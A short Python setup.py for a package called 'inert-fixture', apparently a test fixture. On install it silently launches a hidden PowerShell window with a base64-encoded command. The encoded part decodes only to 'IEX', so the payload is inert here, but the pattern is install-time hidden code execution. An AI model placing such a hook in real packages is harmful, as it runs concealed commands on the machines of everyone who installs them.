from setuptools import setup
import subprocess
subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgA', shell=True)
setup(name='inert-fixture', version='0.0.1')
